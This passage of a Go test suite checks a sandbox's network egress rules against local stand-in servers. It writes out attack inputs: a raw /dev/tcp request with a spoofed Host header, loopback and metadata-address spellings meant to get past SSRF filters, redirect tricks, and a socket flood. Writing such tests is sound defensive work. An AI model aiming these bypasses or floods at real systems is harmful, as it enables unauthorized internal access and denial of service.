	t.Logf("the victim's request took %v under the flood (host listener: %d open, peak %d)", time.Since(start), hl.cur.Load(), hl.peak.Load())
	wg.Wait()
	if p := hl.peak.Load(); p > 2*egress.MaxConnsPerBox {
		t.Errorf("one box held %d connections to the destination at once (cap %d per listener)", p, egress.MaxConnsPerBox)
	}
	if hl.peak.Load() == 0 {
		t.Error("the flood never reached the destination")
	}
}

// TestAttackNetworkCrossSession: session A listens on port 8080 (every
// address, IPv4 and IPv6) in its box; meanwhile session B (internet)
// tries its own loopback, the box address, the host's addresses: it never
// reaches A.
func TestAttackNetworkCrossSession(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	a := netApp(t, st, NetworkOptions{})
	sa := newSession(t, a, "a", "internet")
	sb := newSession(t, a, "b", "internet")
	runCode(t, a, RunCodeInput{Session: sb.ID, Lang: "bash", Code: "true"}) // B's box is ready
	done := make(chan string, 1)
	go func() {
		res := runCode(t, a, RunCodeInput{Session: sa.ID, Lang: "bash", Code: `node -e '
const h = require("http");
const srv = h.createServer((q, r) => r.end("hello-from-session-a\n")).listen({port: 8080, host: "::"}, () => {
  require("fs").writeFileSync("listening", "");
  h.get("http://127.0.0.1:8080/", r => r.on("data", d => console.log("self", String(d).trim())));
});
setTimeout(() => process.exit(0), 12000);'`})
		done <- res.Stdout + res.Stderr
	}()
	waitFor(t, "A listens", func() bool { return inWorkspace(t, a, sa.ID, "listening") })
	var targets []string
	for _, h := range []string{"127.0.0.1", "[::1]", "0.0.0.0", "192.0.2.2", "[2001:db8::2]", "[::ffff:127.0.0.1]", "127.0.0.2", "localhost"} {
		targets = append(targets, fmt.Sprintf("http://%s:8080/", h))
	}
	for _, ad := range hostAddrs(t) {
		targets = append(targets, fmt.Sprintf("http://%s:8080/", urlHost(ad)))
	}
	script := "for u in " + strings.Join(targets, " ") + "; do out=$(curl -sS --max-time 3 \"$u\" 2>&1); echo \"$u rc=$? $out\"; done"
	res := runCode(t, a, RunCodeInput{Session: sb.ID, Lang: "bash", Code: script})
	t.Logf("%s", res.Stdout)
	if strings.Contains(res.Stdout, "session-a") || !strings.Contains(res.Stdout, "rc=") {
		t.Errorf("session B reached session A:\n%s", res.Stdout)
	}
	if out := <-done; !strings.Contains(out, "self hello-from-session-a") {
		t.Errorf("session A's server did not serve itself: %s", out)
	}
}

// TestAttackNetworkRulesAbsoluteFormHost: under allow_out vhost.test, a
// request whose target is absolute-form (http://vhost.test/) with a
// Host header naming another host is refused before the destination
// hears of it: a server that picks its virtual host by the Host header
// (Node's http, most frameworks) would have been fronted.
func TestAttackNetworkRulesAbsoluteFormHost(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	heads := make(chan string, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
				b := make([]byte, 4096)
				var head []byte
				for !strings.Contains(string(head), "\r\n\r\n") {
					n, err := c.Read(b)
					head = append(head, b[:n]...)
					if err != nil {
						break
					}
				}
				heads <- string(head)
				_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\n\r\nok\n")
			}()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	st.also("vhost.test")
	a := netApp(t, st, NetworkOptions{Trusted: []string{fmt.Sprintf("vhost.test:%d", port)}})
	s := mustCall(t, a, "create_session", CreateSessionInput{Name: "absform", Network: "internet", AllowOut: []string{"vhost.test"}}).(*SessionInfo)
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: fmt.Sprintf(
		"exec 3<>/dev/tcp/vhost.test/%d && printf 'GET http://vhost.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n' >&3 && cat <&3", port)})
	t.Logf("%s %s", res.Stdout, res.Stderr)
	select {
	case h := <-heads:
		if strings.Contains(strings.ToLower(h), "host: evil.test") {
			t.Errorf("an absolute-form request's Host header is relayed unchecked under allow_out vhost.test; the destination received:\n%s", h)
		}
	default: // a head the egress let through reached it before the box's run ended
	}
}

// TestAttackNetworkFloodBothFamilies: the cap of connections is the
// box's across its IPv4 and IPv6 listeners: a box that floods over both
// families holds at most MaxConnsPerBox. The IPv6 destination is a host
// address the operator trusts.
func TestAttackNetworkFloodBothFamilies(t *testing.T) {
	// Load, not a check of a rule: make test-soak runs it.
	soak.Skip(t)
	st := newStandIn(t)
	var v6 netip.Addr
	for _, ad := range hostAddrs(t) {
		if ad.Is6() && !ad.IsLoopback() && !ad.Is4In6() {
			v6 = ad
		}
	}
	if !v6.IsValid() {
		t.Skip("the host has no IPv6 address but loopback")
	}
	hl := newHostListener(t, "tcp", ":0")
	st.also("flood.test")
	a := netApp(t, st, NetworkOptions{Trusted: []string{fmt.Sprintf("flood.test:%d", hl.port), v6.String() + "/128"}})
	s := newSession(t, a, "flood2", "internet")
	code := fmt.Sprintf(`import socket, time
ip = socket.gethostbyname("flood.test")
socks = []
for fam, addr in ((socket.AF_INET, (ip, %[1]d)), (socket.AF_INET6, (%[2]q, %[1]d))):
    for i in range(400):
        s = socket.socket(fam); s.setblocking(False)
        try: s.connect(addr)
        except BlockingIOError: pass
        socks.append(s)
time.sleep(8)
print("opened", len(socks))
`, hl.port, v6.String())
	res := runCodeWithin(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: code}, 2*time.Minute)
	t.Logf("%s %s peak %d", res.Stdout, res.Stderr, hl.peak.Load())
	if p := hl.peak.Load(); p > 2*egress.MaxConnsPerBox {
		t.Errorf("one box held %d connections at once", p)
	} else if p > egress.MaxConnsPerBox {
		t.Errorf("one box held %d connections through the egress at once (MaxConnsPerBox %d is per listener, IPv4 and IPv6 each)", p, egress.MaxConnsPerBox)
	}
}

// TestAttackNetworkJSFetch: the JS engine's fetch runs in the server
// and dials through the egress: under allow_out, a Host header naming
// another host, a redirect to the host's loopback or to a name the rules
// refuse, and every spelling of loopback are refused or harmless.
func TestAttackNetworkJSFetch(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	st.also("other.test")
	st.also("redir.test")
	var redirects atomic.Int64
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			redirects.Add(1)
			go func() {
				defer c.Close()
				b := make([]byte, 4096)
				n, _ := c.Read(b)
				to := fmt.Sprintf("http://127.0.0.1:%d/", st.port)
				if strings.Contains(string(b[:n]), "/other") {
					to = fmt.Sprintf("http://other.test:%d/", st.port)
				}
				_, _ = io.WriteString(c, "HTTP/1.1 302 Found\r\nLocation: "+to+"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			}()
		}
	}()
	rport := ln.Addr().(*net.TCPAddr).Port
	a := netApp(t, st, NetworkOptions{Trusted: []string{fmt.Sprintf("other.test:%d", st.port), fmt.Sprintf("redir.test:%d", rport)}})
	s := mustCall(t, a, "create_session", CreateSessionInput{Name: "jsfetch", Network: "internet", AllowOut: []string{"allowed.test", "redir.test"}}).(*SessionInfo)
	var urls []string
	for _, u := range []string{
		fmt.Sprintf("http://redir.test:%d/", rport), fmt.Sprintf("http://redir.test:%d/other", rport),
		fmt.Sprintf("http://2130706433:%d/", st.port), fmt.Sprintf("http://0x7f.1:%d/", st.port),
		fmt.Sprintf("http://[::ffff:127.0.0.1]:%d/", st.port), fmt.Sprintf("http://[::1]:%d/", st.port),
		fmt.Sprintf("http://0.0.0.0:%d/", st.port), fmt.Sprintf("http://localhost:%d/", st.port),
		fmt.Sprintf("http://rebind.test:%d/", st.port), fmt.Sprintf("http://other.test:%d/", st.port),
	} {
		urls = append(urls, fmt.Sprintf("%q", u))
	}
	code := fmt.Sprintf(`for (const u of [%s]) {
  try { const r = await fetch(u); console.log(u, "status", r.status, await r.text()) } catch (e) { console.log(u, "refused", String(e).slice(0, 120)) }
}
try { const r = await fetch("http://allowed.test:%d/", {headers: {"Host": "other.test"}}); console.log("host-header", await r.text()) } catch (e) { console.log("host-header refused", String(e).slice(0, 120)) }`,
		strings.Join(urls, ", "), st.port)
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "js", Code: code})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if !strings.Contains(res.Stdout, "host-header") {
		t.Fatalf("the attacks did not run: %+v", res)
	}
	for _, l := range strings.Split(res.Stdout, "\n") {
		if strings.Contains(l, "hello-from") && !strings.HasPrefix(l, "host-header hello-from-allowed.test") {
			t.Errorf("JS fetch reached: %s", l)
		}
	}
	if redirects.Load() == 0 {
		t.Error("the redirecting server was never reached: the redirect attacks did not run")
	}
}

// TestAttackNetworkNonePolicy: a session under none has no way out at
// all, not even to the egress's or DNS's ports, and a session moved from
// internet to none loses its way out for new connections at once.
func TestAttackNetworkNonePolicy(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	hl := newHostListener(t, "tcp", ":0")
	a := netApp(t, st, NetworkOptions{})
	s := newSession(t, a, "none", "none")
	moved := newSession(t, a, "moved", "internet")
	runCode(t, a, RunCodeInput{Session: moved.ID, Lang: "bash", Code: "true"})
	mustCall(t, a, "set_session_network", SetNetworkInput{Session: moved.ID, Network: "none"})
	var targets []string
	for _, h := range []string{"allowed.test", "127.0.0.1", "[::1]", "8.8.8.8", "169.254.169.254", "198.18.0.1"} {
		targets = append(targets, fmt.Sprintf("http://%s:%d/", h, st.port), fmt.Sprintf("http://%s:%d/", h, hl.port))
	}
	for _, ad := range hostAddrs(t) {
		targets = append(targets, fmt.Sprintf("http://%s:%d/", urlHost(ad), hl.port))
	}
	targets = append(targets, "http://127.0.0.1:1/", "http://127.0.0.1:53/")
	script := "for u in " + strings.Join(targets, " ") + "; do out=$(curl -sS --max-time 3 \"$u\" 2>&1); echo \"$u rc=$? $out\"; done; " +
		"python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (\"8.8.8.8\", 53))' 2>&1 | tail -1"
	for _, id := range []string{s.ID, moved.ID} {
		res := runCode(t, a, RunCodeInput{Session: id, Lang: "bash", Code: script})
		t.Logf("%s\n%s", res.Stdout, res.Stderr)
		if r := reached(res.Stdout); len(r) > 0 || !strings.Contains(res.Stdout, "rc=") {
			t.Errorf("a session under none reached out: %v\n%s", r, res.Stdout)
		}
	}
	if hl.n.Load() != 0 || st.hits.Load() != 0 {
		t.Errorf("host listener %d, stand-in %d connections", hl.n.Load(), st.hits.Load())
	}
}

// inWorkspace reports whether the session's code has made file name in its
// workspace (the mark a test waits for).
func inWorkspace(t *testing.T, a *App, id, name string) bool {
	t.Helper()
	s, err := a.Sessions.ByIDAnyTenant(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	_, err = os.Stat(filepath.Join(s.Workspace(), name))
	return err == nil
}
